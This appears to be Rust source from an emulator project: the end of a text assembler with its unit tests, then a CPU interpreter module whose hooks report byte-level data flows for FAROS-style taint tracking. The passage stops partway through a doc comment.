                if let Some(reg) = parse_reg(&ops[0]) {
                    asm.jmp_reg(reg);
                } else {
                    asm.jmp(&ops[0]);
                }
            }
            "jz" | "jnz" | "jl" | "jge" | "jg" | "jle" | "jb" | "jae" => {
                want(1)?;
                let target = &ops[0];
                match mnemonic {
                    "jz" => asm.jz(target),
                    "jnz" => asm.jnz(target),
                    "jl" => asm.jl(target),
                    "jge" => asm.jge(target),
                    "jg" => asm.jg(target),
                    "jle" => asm.jle(target),
                    "jb" => asm.jb(target),
                    _ => asm.jae(target),
                };
            }
            "call" => {
                want(1)?;
                if let Some(reg) = parse_reg(&ops[0]) {
                    asm.call_reg(reg);
                } else {
                    asm.call(&ops[0]);
                }
            }
            "ret" => {
                want(0)?;
                asm.ret();
            }
            "push" => {
                want(1)?;
                if let Some(reg) = parse_reg(&ops[0]) {
                    asm.push(reg);
                } else if let Some(imm) = parse_imm(&ops[0]) {
                    asm.push_imm(imm);
                } else {
                    return Err(err(line_no, format!("bad operand `{}`", ops[0])));
                }
            }
            "pop" => {
                want(1)?;
                let dst = parse_reg(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[0])))?;
                asm.pop(dst);
            }
            "int" => {
                want(1)?;
                let v = parse_imm(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad vector `{}`", ops[0])))?;
                if v == crate::isa::SYSCALL_VECTOR as u32 {
                    asm.int_syscall();
                } else {
                    return Err(err(
                        line_no,
                        format!("only int {:#x} (the syscall gate) is supported", crate::isa::SYSCALL_VECTOR),
                    ));
                }
            }
            "hlt" => {
                want(0)?;
                asm.hlt();
            }
            "nop" => {
                want(0)?;
                asm.nop();
            }
            other => return Err(err(line_no, format!("unknown mnemonic `{other}`"))),
        }
    }
    asm.assemble_with_labels().map_err(|e: AsmError| err(0, e.to_string()))
}

/// Assembles text source for load address `base`, returning just the image.
///
/// # Errors
///
/// Same as [`assemble_text_with_labels`].
pub fn assemble_text(source: &str, base: u32) -> Result<Vec<u8>, TextAsmError> {
    assemble_text_with_labels(source, base).map(|(bytes, _)| bytes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::Asm;
    use crate::isa::{Mem, Reg};

    #[test]
    fn text_matches_builder_output() {
        let source = r"
            ; compute 6*7 into eax, stash it, loop once
            start:
                mov eax, 6
                mul eax, 7
                st4 [0x2000], eax
                ld4 ebx, [0x2000]
                cmp ebx, 42
                jnz start
                hlt
        ";
        let text = assemble_text(source, 0x1000).unwrap();
        let mut b = Asm::new(0x1000);
        b.label("start");
        b.mov_ri(Reg::Eax, 6);
        b.mul_ri(Reg::Eax, 7);
        b.st4(Mem::abs(0x2000), Reg::Eax);
        b.ld4(Reg::Ebx, Mem::abs(0x2000));
        b.cmp_ri(Reg::Ebx, 42);
        b.jnz("start");
        b.hlt();
        assert_eq!(text, b.assemble().unwrap());
    }

    #[test]
    fn complex_memory_operands_parse() {
        let text = assemble_text("ld1 eax, [ebx+ecx*4+0x10]", 0).unwrap();
        let mut b = Asm::new(0);
        b.ld1(Reg::Eax, Mem { base: Some(Reg::Ebx), index: Some((Reg::Ecx, 4)), disp: 0x10 });
        assert_eq!(text, b.assemble().unwrap());

        let text = assemble_text("st4 [esi-8], edx", 0).unwrap();
        let mut b = Asm::new(0);
        b.st4(Mem::base_disp(Reg::Esi, -8), Reg::Edx);
        assert_eq!(text, b.assemble().unwrap());
    }

    #[test]
    fn data_directives_emit_bytes() {
        let (bytes, labels) = assemble_text_with_labels(
            "msg:\n.ascii \"hi\\n\"\n.u32 0xdeadbeef\n.byte 1, 2, 3",
            0x400,
        )
        .unwrap();
        assert_eq!(labels["msg"], 0x400);
        assert_eq!(&bytes[..3], b"hi\n");
        assert_eq!(&bytes[3..7], &0xdead_beefu32.to_le_bytes());
        assert_eq!(&bytes[7..], &[1, 2, 3]);
    }

    #[test]
    fn mov_label_resolves() {
        let (bytes, labels) =
            assemble_text_with_labels("mov ebx, data\nhlt\ndata:\n.u32 5", 0x1000).unwrap();
        let (instr, _) = crate::encode::decode(&bytes).unwrap();
        assert_eq!(
            instr,
            crate::isa::Instr::MovRI { dst: Reg::Ebx, imm: labels["data"] }
        );
    }

    #[test]
    fn errors_carry_line_numbers() {
        let e = assemble_text("nop\nbogus eax\n", 0).unwrap_err();
        assert_eq!(e.line, 2);
        assert!(e.message.contains("bogus"));

        let e = assemble_text("mov eax", 0).unwrap_err();
        assert!(e.message.contains("expects 2"));

        let e = assemble_text("ld4 eax, [zzz]", 0).unwrap_err();
        assert!(e.message.contains("zzz"));

        let e = assemble_text("jmp nowhere", 0).unwrap_err();
        assert!(e.message.contains("nowhere"));
    }

    #[test]
    fn comments_and_strings_coexist() {
        let (bytes, _) =
            assemble_text_with_labels(".ascii \"a;b\" ; trailing comment", 0).unwrap();
        assert_eq!(bytes, b"a;b");
    }

    #[test]
    fn int_gate_and_guard() {
        assert!(assemble_text("int 0x2e", 0).is_ok());
        assert!(assemble_text("int 0x80", 0).is_err());
    }

    #[test]
    fn textual_program_runs_on_the_machine() {
        use crate::cpu::{Cpu, NoHooks, StepEvent};
        use crate::mem::PhysMem;
        use crate::mmu::{AddressSpace, Asid, Perms};
        let bytes = assemble_text(
            r"
                mov ecx, 5
                mov eax, 0
            loop_top:
                add eax, ecx
                sub ecx, 1
                cmp ecx, 0
                jnz loop_top
                hlt
            ",
            0x1000,
        )
        .unwrap();
        let mut mem = PhysMem::new(2);
        let f = mem.alloc_frame().unwrap();
        mem.write(f * 4096, &bytes).unwrap();
        let mut aspace = AddressSpace::new(Asid(1));
        aspace.map(0x1000, f, Perms::RX);
        let mut cpu = Cpu::new();
        cpu.context_mut().eip = 0x1000;
        while cpu.step(&mut mem, &aspace, &mut NoHooks) != StepEvent::Halt {}
        assert_eq!(cpu.reg(Reg::Eax), 15);
    }
}
