//! The FE32 CPU interpreter.
//!
//! [`Cpu::step`] executes one instruction against a [`PhysMem`] and an
//! [`AddressSpace`], reporting everything a whole-system DIFT engine needs
//! through the [`CpuHooks`] trait:
//!
//! * **data flows** at byte granularity (`flow_copy` / `flow_union` /
//!   `flow_delete` — exactly the three propagation operations of the paper's
//!   Table I), plus the optional *address-dependency* flow for indexed
//!   addressing;
//! * **instruction events** carrying the per-byte physical addresses the
//!   instruction was fetched from — the provenance of code bytes is how
//!   FAROS recognizes injected instructions;
//! * **memory access events** with both virtual and physical addresses;
//! * **control transfer events**, enabling Minos-style tainted-control-flow
//!   policies as an ablation.
//!
//! The hook methods all have empty default bodies; a `Cpu` driven with
//! [`NoHooks`] monomorphizes to a plain emulator with no DIFT overhead, which
//! is what the Table V "replay without FAROS" baseline measures.

use crate::encode::{decode, DecodeError, MAX_INSTR_LEN};
use crate::isa::{AluOp, Cond, Instr, Mem, Operand, Reg, Width, NUM_REGS, SYSCALL_VECTOR};
use crate::mem::{PhysMem, PAGE_SIZE};
use crate::mmu::{Access, AddressSpace, Asid, Fault};
use std::fmt;

/// A byte-granular shadow location: a physical memory byte or a register
/// byte. These are the operands of the propagation rules (paper Table I,
/// "an address can be a byte in memory or a register").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ShadowLoc {
    /// A byte of guest physical memory.
    Mem(u32),
    /// Byte `off` (0..4) of a general-purpose register.
    Reg {
        /// The register.
        reg: Reg,
        /// Byte offset within the register, 0..4.
        off: u8,
    },
}

impl ShadowLoc {
    /// The location `len` bytes after this one (same register or contiguous
    /// physical memory).
    ///
    /// Register locations must stay inside the register: an offset past byte
    /// 3 is a caller bug. The old behaviour silently saturated at byte 3,
    /// which *aliased* distinct sub-register flows onto the top byte —
    /// `Reg{off:2}.offset(2)` and `Reg{off:2}.offset(3)` both became byte 3,
    /// so a 4-byte copy into `Reg{off:2}` merged two source bytes into one
    /// shadow cell. Debug builds now fault; release builds still saturate
    /// (explicitly, as the documented overflow policy) so a hostile guest
    /// cannot turn the bug into a panic. Range-aware consumers should prefer
    /// [`ShadowLoc::checked_offset`], which reports the overflow instead of
    /// masking it.
    #[inline]
    pub fn offset(self, len: u8) -> ShadowLoc {
        match self {
            ShadowLoc::Mem(a) => ShadowLoc::Mem(a.wrapping_add(len as u32)),
            ShadowLoc::Reg { reg, off } => {
                debug_assert!(
                    (off as u32) + (len as u32) < 4,
                    "register shadow offset {off}+{len} escapes the register"
                );
                ShadowLoc::Reg { reg, off: off.saturating_add(len).min(3) }
            }
        }
    }

    /// Like [`ShadowLoc::offset`], but returns `None` when a register
    /// location would escape the register (offset past byte 3) instead of
    /// saturating. Memory locations always succeed (wrapping arithmetic).
    #[inline]
    pub fn checked_offset(self, len: u8) -> Option<ShadowLoc> {
        match self {
            ShadowLoc::Mem(a) => Some(ShadowLoc::Mem(a.wrapping_add(len as u32))),
            ShadowLoc::Reg { reg, off } => {
                let new = (off as u32) + (len as u32);
                if new < 4 {
                    Some(ShadowLoc::Reg { reg, off: new as u8 })
                } else {
                    None
                }
            }
        }
    }
}

/// CPU condition flags.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Flags {
    /// Zero flag.
    pub zf: bool,
    /// Sign flag.
    pub sf: bool,
    /// Carry flag (unsigned borrow after `CMP`).
    pub cf: bool,
    /// Overflow flag (signed overflow after `CMP`).
    pub of: bool,
}

/// Context describing the instruction currently being executed, passed to
/// every hook.
#[derive(Debug, Clone)]
pub struct InsnCtx {
    /// Virtual address the instruction was fetched from.
    pub vaddr: u32,
    /// Physical address of each instruction byte (fetch may cross pages).
    pub code_phys: [u32; MAX_INSTR_LEN],
    /// Encoded length in bytes.
    pub len: u8,
    /// The decoded instruction.
    pub instr: Instr,
    /// Address space (CR3) the instruction executed under.
    pub asid: Asid,
    /// Instructions retired before this one — the CPU's deterministic
    /// virtual clock, usable as a trace timestamp.
    pub retired: u64,
}

impl InsnCtx {
    /// Physical addresses of the instruction's code bytes.
    pub fn code_bytes(&self) -> &[u32] {
        &self.code_phys[..self.len as usize]
    }
}

/// A static summary of the data-flow hook calls an instruction makes — the
/// translation cache's *taint plan* entry, computed once at decode time.
///
/// Every counter is exact for the instruction's non-faulting path: the CPU
/// fires flow hooks only after all of the instruction's translations have
/// succeeded, so an instruction either contributes its whole summary or (on
/// a fault) nothing. When the shadow state is provably clean, a block
/// executor can skip the per-op flow dispatch entirely and replay the summed
/// plan against the taint engine's counters in one call (see
/// [`CpuHooks::flow_block_end`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FlowSummary {
    /// Number of copy-flavored flow calls (`flow_copy`, `flow_load`,
    /// `flow_store`), each one fast-path probe on the clean path.
    pub copy_ops: u32,
    /// Total bytes covered by those copies.
    pub copy_bytes: u32,
    /// Number of `flow_union` calls.
    pub union_ops: u32,
    /// Number of delete-flavored flow calls (`flow_delete`,
    /// `flow_delete_mem`, and the zero-extension delete of narrow loads).
    pub delete_ops: u32,
    /// Total bytes covered by those deletes.
    pub delete_bytes: u32,
    /// Number of `flow_addr_dep` calls (register destination).
    pub addr_dep_reg_ops: u32,
    /// Number of `flow_addr_dep_bytes` calls (memory destination).
    pub addr_dep_mem_ops: u32,
}

impl FlowSummary {
    /// The flow calls `instr` makes when it retires without faulting.
    pub fn of_instr(instr: &Instr) -> FlowSummary {
        let mut s = FlowSummary::default();
        match instr {
            Instr::Nop
            | Instr::Hlt
            | Instr::Cmp { .. }
            | Instr::Test { .. }
            | Instr::Jmp { .. }
            | Instr::Jcc { .. }
            | Instr::JmpReg { .. }
            | Instr::Ret
            | Instr::Int { .. } => {}
            Instr::MovRR { .. } => {
                s.copy_ops = 1;
                s.copy_bytes = 4;
            }
            Instr::MovRI { .. } => {
                s.delete_ops = 1;
                s.delete_bytes = 4;
            }
            Instr::Load { mem, width, .. } => {
                let w = width.bytes() as u32;
                s.copy_ops = 1;
                s.copy_bytes = w;
                if w < 4 {
                    // flow_load zero-extends narrow loads with a delete.
                    s.delete_ops = 1;
                    s.delete_bytes = 4 - w;
                }
                if mem.regs_used().next().is_some() {
                    s.addr_dep_reg_ops = 1;
                }
            }
            Instr::Store { mem, width, .. } => {
                s.copy_ops = 1;
                s.copy_bytes = width.bytes() as u32;
                if mem.regs_used().next().is_some() {
                    s.addr_dep_mem_ops = 1;
                }
            }
            Instr::Lea { .. } => {
                // flow_union fires even with zero address sources.
                s.union_ops = 1;
            }
            Instr::Alu { op, dst, src } => match src {
                Operand::Reg(r) if r == dst && matches!(op, AluOp::Xor | AluOp::Sub) => {
                    s.delete_ops = 1;
                    s.delete_bytes = 4;
                }
                Operand::Reg(_) => s.union_ops = 1,
                Operand::Imm(_) => {}
            },
            Instr::Call { .. } | Instr::CallReg { .. } | Instr::PushImm { .. } => {
                // The return-address / immediate slot is a constant store.
                s.delete_ops = 1;
                s.delete_bytes = 4;
            }
            Instr::Push { .. } | Instr::Pop { .. } => {
                s.copy_ops = 1;
                s.copy_bytes = 4;
            }
        }
        s
    }

    /// Accumulates another instruction's flows into this block summary.
    pub fn add(&mut self, other: &FlowSummary) {
        self.copy_ops += other.copy_ops;
        self.copy_bytes += other.copy_bytes;
        self.union_ops += other.union_ops;
        self.delete_ops += other.delete_ops;
        self.delete_bytes += other.delete_bytes;
        self.addr_dep_reg_ops += other.addr_dep_reg_ops;
        self.addr_dep_mem_ops += other.addr_dep_mem_ops;
    }

    /// `true` when the instruction (or block) makes no flow calls at all.
    pub fn is_empty(&self) -> bool {
        *self == FlowSummary::default()
    }

    /// Address-dependency flow calls of either flavor.
    pub fn addr_dep_ops(&self) -> u32 {
        self.addr_dep_reg_ops + self.addr_dep_mem_ops
    }

    /// How many clean-shadow fast-path probes the flows perform (one per
    /// copy, union, or delete call; address deps probe only in
    /// address-dependency mode, which the taint engine accounts for itself).
    pub fn fastpath_probes(&self) -> u32 {
        self.copy_ops + self.union_ops + self.delete_ops
    }
}

/// Receiver for execution and data-flow events.
///
/// All methods default to no-ops; implementors override what they need. The
/// `Cpu` is generic over the hook type, so an unhooked run compiles down to a
/// bare interpreter.
#[allow(unused_variables)]
pub trait CpuHooks {
    /// Called before an instruction executes (after a successful fetch and
    /// decode, before any side effect).
    fn on_insn(&mut self, ctx: &InsnCtx) {}

    /// A byte-wise copy: `shadow(dst + i) = shadow(src + i)` for `i < len`.
    fn flow_copy(&mut self, dst: ShadowLoc, src: ShadowLoc, len: u8) {}

    /// A computation: every destination byte receives the union of all
    /// source bytes' shadows, unioned with its own when `keep_dst` is set.
    fn flow_union(&mut self, dst: ShadowLoc, dst_len: u8, srcs: &[(ShadowLoc, u8)], keep_dst: bool) {}

    /// Shadow deletion: `shadow(dst + i) = ∅` for `i < len` (the paper's
    /// `delete` rule, fired by immediates and `xor r, r`).
    fn flow_delete(&mut self, dst: ShadowLoc, len: u8) {}

    /// An *address dependency*: the value written to `dst` was read from (or
    /// written to) an address computed from the given register sources.
    /// Policies that propagate address dependencies union these into the
    /// destination; the default FAROS policy ignores them (§IV).
    fn flow_addr_dep(&mut self, dst: ShadowLoc, dst_len: u8, addr_srcs: &[(ShadowLoc, u8)]) {}

    /// An address dependency on a memory destination, given per byte:
    /// `phys[i]` is the translated physical address of the i-th accessed
    /// byte, which may sit on a different frame than `phys[0]` when the
    /// access crosses a page boundary. The default forwards byte-wise to
    /// [`CpuHooks::flow_addr_dep`] so each byte lands on its own frame.
    fn flow_addr_dep_bytes(&mut self, phys: &[u32], addr_srcs: &[(ShadowLoc, u8)]) {
        for &p in phys {
            self.flow_addr_dep(ShadowLoc::Mem(p), 1, addr_srcs);
        }
    }

    /// Batched load flow: `shadow(dst.byte(i)) = shadow(phys[i])`, plus
    /// zero-extension of the register's remaining shadow bytes when the
    /// access is narrower than the register. One call per load replaces
    /// `4 × flow_copy + flow_delete`; the default decomposes to exactly
    /// those per-byte flows, so hook implementors may override either level.
    fn flow_load(&mut self, dst: Reg, phys: &[u32]) {
        for (i, &p) in phys.iter().enumerate() {
            self.flow_copy(ShadowLoc::Reg { reg: dst, off: i as u8 }, ShadowLoc::Mem(p), 1);
        }
        let w = phys.len();
        if w < 4 {
            self.flow_delete(ShadowLoc::Reg { reg: dst, off: w as u8 }, (4 - w) as u8);
        }
    }

    /// Batched store flow: `shadow(phys[i]) = shadow(src.byte(i))`. The
    /// default decomposes to per-byte [`CpuHooks::flow_copy`] calls.
    fn flow_store(&mut self, phys: &[u32], src: Reg) {
        for (i, &p) in phys.iter().enumerate() {
            self.flow_copy(ShadowLoc::Mem(p), ShadowLoc::Reg { reg: src, off: i as u8 }, 1);
        }
    }

    /// Batched shadow deletion over translated physical bytes (constant
    /// stores: `push imm`, the return address slot of `call`).
    fn flow_delete_mem(&mut self, phys: &[u32]) {
        for &p in phys {
            self.flow_delete(ShadowLoc::Mem(p), 1);
        }
    }

    /// A memory load is about to complete. `phys` holds the translated
    /// physical address of *each* accessed byte — a page-crossing access
    /// lands bytes on more than one frame.
    fn on_load(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, dst: Reg) {}

    /// A memory store is about to complete (`phys` as in
    /// [`CpuHooks::on_load`]).
    fn on_store(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, src: Reg) {}

    /// A control transfer resolved. `target_src` is the shadow location the
    /// target address was read from for indirect transfers (`ret`,
    /// `call/jmp reg`), enabling Minos-style tainted-PC policies.
    fn on_control(&mut self, ctx: &InsnCtx, target: u32, target_src: Option<ShadowLoc>) {}

    /// A conditional branch resolved; `taken` tells which way. The flag
    /// source is a *control dependency* — FAROS deliberately does not
    /// propagate these (§VI-D discusses the bit-copy evasion this allows).
    fn on_branch(&mut self, ctx: &InsnCtx, taken: bool) {}

    /// The flags register was written by a comparison whose operands are
    /// `srcs`. Conservative (RIFLE-style) policies use this to taint
    /// branch-scoped writes; FAROS ignores it.
    fn flow_flags(&mut self, srcs: &[(ShadowLoc, u8)]) {}

    /// A cached-block executor is about to run a block and asks whether the
    /// per-instruction `flow_*` calls may be *elided* for it. Returning
    /// `true` grants permission — it is not a commitment: the executor may
    /// still dispatch every flow individually (e.g. when it falls back to
    /// the interpreter), and when it does elide it calls
    /// [`CpuHooks::flow_block_end`] exactly once with the block's summed
    /// [`FlowSummary`] instead. Implementors must be correct under both
    /// outcomes. Only return `true` when replaying the summary is
    /// observably identical to the per-op calls — for a taint engine, when
    /// the shadow state is clean and no control context is open.
    ///
    /// Non-flow hooks (`on_insn`, `on_load`, `on_store`, `on_control`,
    /// `on_branch`, `flow_flags`) still fire per instruction regardless.
    fn flow_block_begin(&mut self) -> bool {
        true
    }

    /// The elided flow calls of one cached block, summed. Fired at most once
    /// per block run, only when [`CpuHooks::flow_block_begin`] returned
    /// `true` and the executor actually elided, and never with an empty
    /// summary.
    fn flow_block_end(&mut self, flows: &FlowSummary) {}
}

/// A [`CpuHooks`] implementation that does nothing — the plain-QEMU-speed
/// configuration.
#[derive(Debug, Clone, Copy, Default)]
pub struct NoHooks;

impl CpuHooks for NoHooks {}

// Forwarding impl so `&mut dyn`-style hook stacks (e.g. a plugin manager
// handed around as a trait object) satisfy the generic bound on `Cpu::step`.
impl<H: CpuHooks + ?Sized> CpuHooks for &mut H {
    fn on_insn(&mut self, ctx: &InsnCtx) {
        (**self).on_insn(ctx);
    }
    fn flow_copy(&mut self, dst: ShadowLoc, src: ShadowLoc, len: u8) {
        (**self).flow_copy(dst, src, len);
    }
    fn flow_union(&mut self, dst: ShadowLoc, dst_len: u8, srcs: &[(ShadowLoc, u8)], keep_dst: bool) {
        (**self).flow_union(dst, dst_len, srcs, keep_dst);
    }
    fn flow_delete(&mut self, dst: ShadowLoc, len: u8) {
        (**self).flow_delete(dst, len);
    }
    fn flow_addr_dep(&mut self, dst: ShadowLoc, dst_len: u8, addr_srcs: &[(ShadowLoc, u8)]) {
        (**self).flow_addr_dep(dst, dst_len, addr_srcs);
    }
    fn flow_addr_dep_bytes(&mut self, phys: &[u32], addr_srcs: &[(ShadowLoc, u8)]) {
        (**self).flow_addr_dep_bytes(phys, addr_srcs);
    }
    fn flow_load(&mut self, dst: Reg, phys: &[u32]) {
        (**self).flow_load(dst, phys);
    }
    fn flow_store(&mut self, phys: &[u32], src: Reg) {
        (**self).flow_store(phys, src);
    }
    fn flow_delete_mem(&mut self, phys: &[u32]) {
        (**self).flow_delete_mem(phys);
    }
    fn on_load(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, dst: Reg) {
        (**self).on_load(ctx, vaddr, phys, width, dst);
    }
    fn on_store(&mut self, ctx: &InsnCtx, vaddr: u32, phys: &[u32], width: Width, src: Reg) {
        (**self).on_store(ctx, vaddr, phys, width, src);
    }
    fn on_control(&mut self, ctx: &InsnCtx, target: u32, target_src: Option<ShadowLoc>) {
        (**self).on_control(ctx, target, target_src);
    }
    fn on_branch(&mut self, ctx: &InsnCtx, taken: bool) {
        (**self).on_branch(ctx, taken);
    }
    fn flow_flags(&mut self, srcs: &[(ShadowLoc, u8)]) {
        (**self).flow_flags(srcs);
    }
    fn flow_block_begin(&mut self) -> bool {
        (**self).flow_block_begin()
    }
    fn flow_block_end(&mut self, flows: &FlowSummary) {
        (**self).flow_block_end(flows);
    }
}

/// Why [`Cpu::step`] stopped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepEvent {
    /// Instruction retired normally.
    Normal,
    /// A control transfer retired (ends a basic block).
    Branch,
    /// The syscall gate fired (`int 0x2e`); the kernel must service it.
    Syscall {
        /// Interrupt vector.
        vector: u8,
    },
    /// The thread executed `hlt` (thread exit in the guest ABI).
    Halt,
    /// A translation fault; `eip` still points at the faulting instruction.
    Fault(Fault),
    /// The bytes at `eip` are not a valid instruction.
    Illegal {
        /// Faulting instruction address.
        vaddr: u32,
        /// The decode failure.
        err: DecodeError,
    },
}

impl StepEvent {
    /// Returns `true` for events the scheduler treats as thread-fatal.
    pub fn is_fatal(&self) -> bool {
        matches!(self, StepEvent::Fault(_) | StepEvent::Illegal { .. })
    }
}

impl fmt::Display for StepEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            StepEvent::Normal => write!(f, "retired"),
            StepEvent::Branch => write!(f, "branch"),
            StepEvent::Syscall { vector } => write!(f, "syscall (int {vector:#x})"),
            StepEvent::Halt => write!(f, "halt"),
            StepEvent::Fault(fault) => write!(f, "{fault}"),
            StepEvent::Illegal { vaddr, err } => {
                write!(f, "illegal instruction at {vaddr:#010x}: {err}")
            }
        }
    }
}

/// The architectural thread context: registers, program counter, flags.
///
/// This is what the kernel snapshots on a context switch and what
/// `NtGetContextThread` / `NtSetContextThread` expose to guests — the
/// process-hollowing attack depends on being able to redirect a suspended
/// thread's `eip` through this structure.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct CpuContext {
    /// General-purpose registers, indexed by [`Reg::index`].
    pub regs: [u32; NUM_REGS],
    /// Program counter.
    pub eip: u32,
    /// Condition flags.
    pub flags: Flags,
}

/// The FE32 CPU.
///
/// # Examples
///
/// ```
/// use faros_emu::asm::Asm;
/// use faros_emu::cpu::{Cpu, NoHooks, StepEvent};
/// use faros_emu::isa::Reg;
/// use faros_emu::mem::PhysMem;
/// use faros_emu::mmu::{AddressSpace, Asid, Perms};
///
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let mut mem = PhysMem::new(4);
/// let frame = mem.alloc_frame()?;
/// let mut aspace = AddressSpace::new(Asid(1));
/// aspace.map(0x1000, frame, Perms::RX);
///
/// let mut asm = Asm::new(0x1000);
/// asm.mov_ri(Reg::Eax, 41);
/// asm.add_ri(Reg::Eax, 1);
/// asm.hlt();
/// mem.write(frame * 4096, &asm.assemble()?)?;
///
/// let mut cpu = Cpu::new();
/// cpu.context_mut().eip = 0x1000;
/// cpu.set_asid(Asid(1));
/// while cpu.step(&mut mem, &aspace, &mut NoHooks) != StepEvent::Halt {}
/// assert_eq!(cpu.reg(Reg::Eax), 42);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone, Default)]
pub struct Cpu {
    ctx: CpuContext,
    asid: Asid,
    retired: u64,
}

impl Cpu {
    /// Creates a CPU with all registers zeroed.
    pub fn new() -> Cpu {
        Cpu::default()
    }

    /// The architectural context (registers, `eip`, flags).
    pub fn context(&self) -> &CpuContext {
        &self.ctx
    }

    /// Mutable access to the architectural context.
    pub fn context_mut(&mut self) -> &mut CpuContext {
        &mut self.ctx
    }

    /// Reads a general-purpose register.
    #[inline]
    pub fn reg(&self, r: Reg) -> u32 {
        self.ctx.regs[r.index()]
    }

    /// Writes a general-purpose register.
    #[inline]
    pub fn set_reg(&mut self, r: Reg, val: u32) {
        self.ctx.regs[r.index()] = val;
    }

    /// The current address-space identifier (CR3).
    pub fn asid(&self) -> Asid {
        self.asid
    }

    /// Loads CR3 — performed by the kernel on a context switch.
    pub fn set_asid(&mut self, asid: Asid) {
        self.asid = asid;
    }

    /// Total instructions retired since construction.
    pub fn retired(&self) -> u64 {
        self.retired
    }

    fn mem_addr(&self, mem_op: &Mem) -> u32 {
        let mut addr = mem_op.disp as u32;
        if let Some(b) = mem_op.base {
            addr = addr.wrapping_add(self.reg(b));
        }
        if let Some((i, scale)) = mem_op.index {
            addr = addr.wrapping_add(self.reg(i).wrapping_mul(scale as u32));
        }
        addr
    }

    /// Translates `width` bytes starting at `vaddr`, byte by byte (accesses
    /// may cross page boundaries).
    fn translate_range(
        aspace: &AddressSpace,
        vaddr: u32,
        width: usize,
        access: Access,
    ) -> Result<[u32; 4], Fault> {
        let mut phys = [0u32; 4];
        for (i, slot) in phys.iter_mut().enumerate().take(width) {
            *slot = aspace.translate(vaddr.wrapping_add(i as u32), access)?;
        }
        Ok(phys)
    }

    fn read_mem(
        mem: &PhysMem,
        phys: &[u32; 4],
        width: usize,
    ) -> u32 {
        let mut val = 0u32;
        for (i, &p) in phys.iter().enumerate().take(width) {
            // Physical addresses were produced by translate(); the kernel
            // never maps beyond installed memory, so this cannot fail.
            let byte = mem.read_u8(p).expect("translated address in range");
            val |= (byte as u32) << (8 * i);
        }
        val
    }

    fn write_mem(mem: &mut PhysMem, phys: &[u32; 4], width: usize, val: u32) {
        for (i, &p) in phys.iter().enumerate().take(width) {
            mem.write_u8(p, (val >> (8 * i)) as u8)
                .expect("translated address in range");
        }
    }

    fn addr_srcs(mem_op: &Mem) -> ([(ShadowLoc, u8); 2], usize) {
        let mut srcs = [(ShadowLoc::Reg { reg: Reg::Eax, off: 0 }, 0u8); 2];
        let mut n = 0;
        for r in mem_op.regs_used() {
            srcs[n] = (ShadowLoc::Reg { reg: r, off: 0 }, 4);
            n += 1;
        }
        (srcs, n)
    }

    fn set_cmp_flags(&mut self, a: u32, b: u32) {
        let (res, borrow) = a.overflowing_sub(b);
        self.ctx.flags.zf = res == 0;
        self.ctx.flags.sf = (res as i32) < 0;
        self.ctx.flags.cf = borrow;
        self.ctx.flags.of = ((a ^ b) & (a ^ res)) & 0x8000_0000 != 0;
    }

    fn cond_holds(&self, cond: Cond) -> bool {
        let f = self.ctx.flags;
        match cond {
            Cond::Z => f.zf,
            Cond::Nz => !f.zf,
            Cond::L => f.sf != f.of,
            Cond::Ge => f.sf == f.of,
            Cond::G => !f.zf && f.sf == f.of,
            Cond::Le => f.zf || f.sf != f.of,
            Cond::B => f.cf,
            Cond::Ae => !f.cf,
        }
    }

    /// Fetches and decodes the instruction at `vaddr`.
    ///
    /// The fetch is page-aware and stops at the decoded length: one Exec
    /// translation covers every instruction byte on the same page, and bytes
    /// past the end of the instruction are neither translated nor read. A
    /// short instruction flush against an unmapped page therefore executes
    /// cleanly — the old byte-wise fetch translated all `MAX_INSTR_LEN`
    /// bytes up front. Only an instruction whose *encoding* crosses the page
    /// boundary touches the next page; if that page is unfetchable the fault
    /// is reported as `NotMapped` at the boundary, exactly as before.
    pub(crate) fn fetch_decode(
        mem: &PhysMem,
        aspace: &AddressSpace,
        vaddr: u32,
    ) -> Result<(Instr, usize, [u32; MAX_INSTR_LEN]), StepEvent> {
        let mut code = [0u8; MAX_INSTR_LEN];
        let mut code_phys = [0u32; MAX_INSTR_LEN];
        let p0 = match aspace.translate(vaddr, Access::Exec) {
            Ok(p) => p,
            Err(fault) => return Err(StepEvent::Fault(fault)),
        };
        let in_page = ((PAGE_SIZE - (vaddr % PAGE_SIZE)) as usize).min(MAX_INSTR_LEN);
        for i in 0..in_page {
            // Bytes on the first page share p0's frame; no per-byte walk.
            let p = p0 + i as u32;
            code_phys[i] = p;
            code[i] = mem.read_u8(p).expect("translated address in range");
        }
        let err = match decode(&code[..in_page]) {
            Ok((instr, len)) => return Ok((instr, len, code_phys)),
            Err(DecodeError::Truncated) if in_page < MAX_INSTR_LEN => {
                // The encoding crosses the page boundary: fetch the spill
                // bytes from the next page and retry with the full window.
                let boundary = vaddr.wrapping_add(in_page as u32);
                let p1 = match aspace.translate(boundary, Access::Exec) {
                    Ok(p) => p,
                    Err(_) => {
                        // Mid-instruction fetch failures are reported as
                        // NotMapped at the first unfetchable byte, whatever
                        // the underlying fault kind (legacy contract).
                        return Err(StepEvent::Fault(Fault::NotMapped { vaddr: boundary }));
                    }
                };
                for i in in_page..MAX_INSTR_LEN {
                    let p = p1 + (i - in_page) as u32;
                    code_phys[i] = p;
                    code[i] = mem.read_u8(p).expect("translated address in range");
                }
                match decode(&code) {
                    Ok((instr, len)) => return Ok((instr, len, code_phys)),
                    Err(err) => err,
                }
            }
            Err(err) => err,
        };
        Err(StepEvent::Illegal { vaddr, err })
    }

    /// Bumps the retired-instruction counter by one (the cached-block
    /// executor retires instructions itself).
    #[inline]
    pub(crate) fn retire_one(&mut self) {
        self.retired += 1;
    }

    /// Executes one instruction.
    ///
    /// On a fault the CPU state is unchanged (`eip` still addresses the
